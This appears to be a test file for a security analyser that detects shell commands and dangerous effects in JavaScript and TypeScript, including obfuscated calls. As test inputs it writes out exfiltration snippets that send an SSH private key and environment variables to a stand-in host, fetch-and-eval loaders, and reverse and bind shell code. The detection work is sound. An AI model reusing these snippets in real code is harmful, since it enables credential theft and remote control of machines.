import assert from "node:assert/strict";
import type { Analyser } from "../../../extension/core/analysis/analyser.ts";
import { canonical, commandSpans, testAnalyser, viaOf } from "./test-analyser.ts";

describe("commands and effects of JavaScript and TypeScript", () => {
  let analyser: Analyser;
  before(async () => {
    analyser = await testAnalyser();
  });
  const lines = (text: string, language = "javascript") => canonical(analyser, language, text);

  const commands: readonly (readonly [title: string, text: string, ...expected: string[]])[] = [
    ["require", 'require("child_process").exec("nmap h")', "nmap -- h"],
    ["a destructured require", 'const { execSync: x } = require("child_process"); x("nmap h")', "nmap -- h"],
    ["node: and import", 'import { exec } from "node:child_process"; exec("nmap h")', "nmap -- h"],
    ["a renamed import", 'import { spawn as s } from "child_process"; s("nmap", ["h"])', "nmap -- h"],
    ["a namespace import", 'import * as cp from "child_process"; cp.execFile("nmap", ["h"])', "nmap -- h"],
    ["a default import", 'import cp from "child_process"; cp.execFileSync("nmap", ["h"])', "nmap -- h"],
    ["a dynamic import", 'const cp = await import("child_process"); cp.exec("nmap h")', "nmap -- h"],
    ["a computed member", 'const cp = require("child_process"); cp["ex" + "ec"]("nmap h")', "nmap -- h"],
    ["an alias", 'const cp = require("child_process"); const go = cp.exec; go("nmap h")', "nmap -- h"],
    [
      "promisify",
      'const { promisify } = require("util"); const run = promisify(require("child_process").exec); await run("nmap h")',
      "nmap -- h",
    ],
    ["spawn with a shell", 'require("child_process").spawn("nmap h | x", { shell: true })', "nmap -- h | x"],
    ["a template", 'const h = "h"; require("child_process").exec(`nmap ${h} ${process.argv[2]}`)', 'nmap -- h "$UNKNOWN"'],
    ["a tagged template", "import { $ } from 'zx'; const h = 'h'; await $`nmap ${h}`", "nmap -- h"],
    ["execa", 'import { execa } from "execa"; await execa("nmap", ["h"])', "nmap -- h"],
    ["Bun", 'Bun.spawn(["nmap", "h"])', "nmap -- h"],
    ["Deno", 'new Deno.Command("nmap", { args: ["h"] })', "nmap -- h"],
    ["base64", 'require("child_process").exec(Buffer.from("bm1hcCBo", "base64").toString())', "nmap -- h"],
    ["atob", 'require("child_process").exec(atob("bm1hcCBo"))', "nmap -- h"],
    ["character codes", 'require("child_process").exec(String.fromCharCode(110, 109, 97, 112))', "nmap"],
    ["joined and reversed text", 'require("child_process").exec("pamn".split("").reverse().join(""))', "nmap"],
    ["escapes", 'require("child_process").exec("nm\\x61p \\u{68}")', "nmap -- h"],
    ["a spread list", 'const a = ["h", "i"]; require("child_process").spawn("nmap", ["-p", "1", ...a])', "nmap -p=1 -- h i"],
    ["a list that grows", 'const a = ["h"]; a.push("i"); require("child_process").spawn("nmap", a)', "nmap -- h i"],
    ["an arrow function", 'const run = (c) => require("child_process").exec(c); run("nmap h")', "nmap -- h"],
    ["what an arrow function is", 'const f = (h) => "nmap " + h; require("child_process").exec(f("h"))', "nmap -- h"],
    ["a function declared later", 'go("h"); function go(h) { require("child_process").exec("nmap " + h) }', "nmap -- h"],
    [
      "a class",
      'class A { constructor(h) { this.h = h } go() { require("child_process").exec("nmap " + this.h) } } new A("h").go()',
      "nmap -- h",
    ],
    ["a choice", 'require("child_process").exec(x ? "a" : "b")', "a", "b"],
    ["code that is run", `eval("require('child_process').exec('nmap h')")`, "nmap -- h"],
    ["new Function", `new Function("x", "require('child_process').exec('nmap h')")(1)`, "nmap -- h"],
    [
      "node in the shell in JavaScript",
      `require("child_process").exec("node -e \\"require('child_process').exec('nmap h')\\"")`,
      "node $'-e=require(\\'child_process\\').exec(\\'nmap h\\')'",
      "nmap -- h",
    ],
  ];
  for (const [title, text, ...expected] of commands) {
    it(`sees the command through ${title}`, async () => assert.deepEqual(await lines(text), expected));
  }

  const effects: readonly (readonly [title: string, text: string, ...expected: string[]])[] = [
    [
      "a file posted",
      'const fs = require("fs"), os = require("os"), path = require("path"); fetch("https://x.example", { method: "POST", body: fs.readFileSync(path.join(os.homedir(), ".ssh/id_rsa")) })',
      ":read ~/.ssh/id_rsa | :send x.example",
    ],
    [
      "the environment posted",
      'import axios from "axios"; axios.post("https://x.example/e", { ...process.env })',
      ":env '*' | :send x.example",
    ],
    ["one variable in a header", 'fetch("https://x.example", { headers: { a: `Bearer ${process.env.T}` } })', ":env T | :send x.example"],
    ["a destructured variable", 'const { T } = process.env; fetch("https://x.example/?" + T)', ":env T | :send x.example"],
    [
      "a callback",
      'const fs = require("fs"); fs.readFile("/a", (e, d) => { fetch("https://x.example", { body: d }) })',
      ":read /a | :send x.example",
    ],
    [
      "promises",
      'import fs from "fs/promises"; fs.readFile("/a").then((d) => fetch("https://x.example", { body: d }))',
      ":read /a | :send x.example",
    ],
    [
      "code that was fetched",
      'fetch("https://x.example/p").then((r) => r.text()).then((t) => eval(t))',
      ":fetch https://x.example/p | :run javascript",
    ],
    [
      "await",
      'const t = await (await fetch("https://x.example/p")).text(); new Function(t)()',
      ":fetch https://x.example/p | :run javascript",
    ],
    [
      "a stream put together",
      'const https = require("https"); https.get("https://x.example/p", (r) => { let b = ""; r.on("data", (d) => { b += d; }); r.on("end", () => { eval(b); }); })',
      ":fetch https://x.example/p | :run javascript",
    ],
    [
      "a stream piped to a file",
      'const https = require("https"), fs = require("fs"); https.get("https://x.example/p", (r) => r.pipe(fs.createWriteStream("/tmp/p")))',
      ":fetch https://x.example/p | :write /tmp/p",
    ],
    [
      "a request that is written to",
      'const https = require("https"); const r = https.request({ hostname: "x.example", method: "POST" }); r.write(require("fs").readFileSync("/a")); r.end()',
      ":read /a | :send x.example",
    ],
    [
      "a form",
      'const f = new FormData(); f.append("a", require("fs").createReadStream("/a")); fetch("https://x.example", { body: f })',
      ":read /a | :send x.example",
    ],
    [
      "a connection that its own callback uses by name",
      'const { spawn } = require("child_process");\nconst c = require("net").connect(5, "1.2.3.4", () => { spawn("sh", { stdio: [c, c, c] }); });',
      "sh",
      ":fetch '1.2.3.4' | :run sh",
      ":connect '1.2.3.4' '5'",
    ],
    [
      "what `this` is to a callback",
      'require("net").connect(5, "1.2.3.4", function () { const p = require("child_process").spawn("sh"); this.pipe(p.stdin); });',
      "sh",
      ":fetch '1.2.3.4' | :run sh",
      ":connect '1.2.3.4' '5'",
    ],
    ["how a child's streams are set", 'require("child_process").spawn("sh", [], { stdio: ["pipe", "inherit"] })', "sh"],
    [
      "a shell on a socket",
      'const net = require("net"), cp = require("child_process"); const sh = cp.spawn("/bin/sh", []); const c = new net.Socket(); c.connect(5, "1.2.3.4", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); })',
      "sh",
      ":fetch '1.2.3.4' | :run sh",
      ":connect '1.2.3.4' '5'",
    ],
    [
      "a shell for whoever connects",
      'const sh = require("child_process").spawn("bash"); require("net").createServer((c) => { c.pipe(sh.stdin); }).listen(5)',
      "bash",
      ":fetch '0.0.0.0' | :run sh",
      ":listen '5'",
    ],
    ["a server", 'require("http").createServer(() => {}).listen(8080)', ":listen '8080'"],
  ];
  for (const [title, text, ...expected] of effects) {
    it(`follows ${title}`, async () =>
      assert.deepEqual(
        (await lines(text)).filter((line) => !/^:(?:fetch|send) \S+$/.test(line)),
        expected,
      ));
  }

  const silent: readonly (readonly [title: string, text: string])[] = [
    ["a regular expression's exec", "/nmap h/.exec('nmap h'); const re = /x/g; re.exec('nmap')"],
    ["a function of the same name", "function exec(c) { return c } exec('nmap h')"],
    ["text that is only printed", "console.log('ssh -R 1:2:3 h')"],
    ["a timer with a function", "setTimeout(() => {}, 10)"],
  ];
  for (const [title, text] of silent) it(`sees no command in ${title}`, async () => assert.deepEqual(await lines(text), []));

  it("reads TypeScript's own forms", async () => {
    const text =
      'import { exec } from "child_process";\nimport type { X } from "x";\nconst h = "h" as const;\nexec(<string>`nmap ${h!}`);\n';
    assert.deepEqual(await lines(text, "typescript"), ["nmap -- h"]);
  });

  it("reads require in TypeScript's import form", async () => {
    assert.deepEqual(await lines('import cp = require("child_process");\ncp.exec("nmap h");\n', "typescript"), ["nmap -- h"]);
  });

  it("reads TSX", async () => {
    const text =
      'import { exec } from "child_process";\nexport const A = (p: { h: string }) => <b onClick={() => exec("nmap h")}>{p.h}</b>;\n';
    assert.deepEqual(await lines(text, "tsx"), ["nmap -- h"]);
  });

  it("names the host's function in via", async () => {
    assert.deepEqual(await viaOf(analyser, "javascript", 'require("node:child_process").execSync("sudo nmap h")'), [
      ["javascript:child_process.execSync", "sudo"],
    ]);
  });

  it("marks the words in the file", async () => {
    assert.deepEqual(await commandSpans(analyser, "javascript", 'require("child_process").spawn("nmap", ["-p", "1"])'), [
      'nmap", ["-p", "1',
    ]);
    assert.deepEqual(await commandSpans(analyser, "javascript", "require('child_process').exec(`a; nmap ${h} i`)"), ["a", "nmap ${h} i"]);
  });
});
